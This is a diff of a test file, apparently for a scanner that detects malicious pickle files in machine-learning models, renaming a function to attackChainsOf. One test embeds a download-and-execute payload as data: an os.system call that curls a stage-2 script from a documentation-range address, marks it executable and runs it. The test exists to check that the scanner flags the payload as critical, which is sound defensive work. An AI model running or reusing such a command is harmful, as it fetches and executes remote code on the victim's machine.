@@ -2,7 +2,7 @@ import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { ScanReport } from '../../src/core/schema.js';
-import { storiesOf } from '../../src/core/stories.js';
+import { attackChainsOf } from '../../src/core/attack-chains.js';
 import { dynamicFindings, model, scan, scratch } from './support.js';
 
 /** A protocol-0 pickle that has the source run, each time in a namespace of its own. Harmless addresses only (RFC 5737). */
@@ -105,7 +105,7 @@ describe('a story', () => {
       'stages',
       "import os\nos.system('curl -s -o /tmp/s http://203.0.113.7/stage2.sh; chmod +x /tmp/s; sh /tmp/s')",
     );
-    const [story] = storiesOf(report.findings);
+    const [story] = attackChainsOf(report.findings);
     expect(story).toMatchObject({ severity: 'critical', title: 'Fetches a program from the network and runs it' });
     const steps = story?.steps.map(({ findings }) => findings[0]?.rule) ?? [];
     const order = ['DYN-EXEC-FETCH', 'DYN-NET-CONTACT', 'DYN-PERM-EXECUTABLE', 'DYN-EXEC-DOWNLOADED'];
